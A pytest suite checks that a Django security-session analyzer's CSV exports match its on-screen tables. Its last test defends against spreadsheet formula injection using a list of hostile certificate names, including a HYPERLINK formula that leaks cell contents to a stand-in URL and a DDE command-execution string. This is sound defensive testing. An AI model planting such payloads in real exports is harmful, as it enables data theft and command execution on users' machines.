"""CSV against the screen: the same values in the same order, every column, every level."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from datetime import UTC, datetime
from typing import Any

import pytest
from django.http import QueryDict

from analyzer.exports.formats.registry import Chosen
from analyzer.exports.levels import Level, question_of
from analyzer.exports.rows import Rows, rows_file
from analyzer.exports.taking import Taking
from analyzer.models import SecuritySession, Server
from analyzer.queries.filters import Filters
from analyzer.queries.pages import Question, read_page
from analyzer.tables.columns import Column
from analyzer.tables.report import SESSIONS
from tests.analyzer.exports.conftest import add_session, rows_of

NOW = datetime(2026, 4, 1, 8, 30, tzinfo=UTC)
ALL_DAYS = Filters.everything()


def taken(question: Question, columns: Sequence[Column], sort: str | None) -> list[list[str]]:
    taking = Taking(by=None, now=NOW, target=question.table.name, filters=ALL_DAYS)
    _, file = rows_file(Rows(question, columns, sort), taking, chosen=Chosen())
    with file:
        return rows_of(file.read())


def shown(question: Question, sort: str | None, limit: int) -> Iterator[dict[str, Any]]:
    """All rows, page after page."""
    after = None
    while True:
        page = read_page(question, sort=sort, after=after, limit=limit)
        yield from page.rows
        if (after := page.next) is None:
            return


def as_cell(value: Any) -> str:
    return "" if value is None else value.isoformat() if isinstance(value, datetime) else str(value)


def check(question: Question, *, sort: str | None = None, limit: int = 17) -> int:
    columns = question.table.columns
    header, *cells = taken(question, columns, sort)
    rows = list(shown(question, sort, limit))
    assert header == [column.key for column in columns]
    assert cells == [[as_cell(row[column.key]) for column in columns] for row in rows]
    return len(rows)


def levels() -> Iterator[Level]:
    yield {}
    for role in Server.Role.values:
        yield {"role": role}
    for server in Server.objects.all():
        yield {"server": server}
    found = SecuritySession.objects.values_list("server_id", "protection__protocol").distinct()
    servers = Server.objects.in_bulk()
    for server_id, protocol in found:
        for of, detail in SESSIONS:
            if of == protocol:
                yield {"server": servers[server_id], "protocol": protocol, "detail": detail}


@pytest.mark.usefixtures("filled", "db")
def test_every_level_has_the_rows_and_values_of_the_screen() -> None:
    asked = list(levels())
    rows = sum(check(question_of(ALL_DAYS, **level)) for level in asked)
    assert len(asked) > 50
    assert rows > 200


@pytest.mark.usefixtures("filled", "db")
def test_every_order_is_that_of_the_screen() -> None:
    for level in ({}, {"role": "server"}):
        question = question_of(ALL_DAYS, **level)
        for column in question.table.columns:
            if column.sortable:
                assert check(question, sort=column.key, limit=100) > 10
                assert check(question, sort=f"-{column.key}", limit=100) > 10


@pytest.mark.usefixtures("filled", "db")
def test_filters_choose_the_same_rows() -> None:
    filters, _ = Filters.from_params(QueryDict("days=all&protocol=TLS&client_ip=10.0.0.0/8"))
    found = check(question_of(filters))
    assert 0 < found < check(question_of(ALL_DAYS))


@pytest.mark.usefixtures("filled", "db")
def test_chosen_columns_come_in_the_order_of_their_choice() -> None:
    question = question_of(ALL_DAYS)
    columns = question.table.chosen(["connections", "sysplex"])
    assert taken(question, columns, None)[0] == ["connections", "sysplex"]


HOSTILE = [
    '=HYPERLINK("http://example.com/"&A1;"x")',
    *("+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1+1", " \u3000=1"),
]
HARMLESS = [
    *('CN="Doe, Jane",O=x', "CN=a\r\nb", "CN=\u2400", "CN=<img src=x onerror=alert(1)>"),
    *("CN=back\\slash", "CN=a;b\tc", "CN=O'Neil"),
]


@pytest.mark.usefixtures("filled", "db")
def test_names_on_certificates_can_not_become_formulas() -> None:
    server = Server.objects.filter(role="server").first()
    assert server is not None
    names = [*HOSTILE, *HARMLESS]
    for number, name in enumerate(names, start=10_000):
        add_session(number, server=server, client_ip="192.0.2.77", dn_tls_server_subject=name)
    filters, _ = Filters.from_params(QueryDict("days=all&client_ip=192.0.2.77"))
    question = question_of(filters, server=server, protocol="TLS", detail="dn")
    columns = question.table.chosen(["client_ip", "dn_tls_server_subject", "session_id"])
    header, *cells = taken(question, columns, "session_id")
    assert header == ["client_ip", "dn_tls_server_subject", "session_id"]
    assert cells == [
        ["192.0.2.77", f"'{name}" if name in HOSTILE else name, f"T-{number}"]
        for number, name in enumerate(names, start=10_000)
    ]
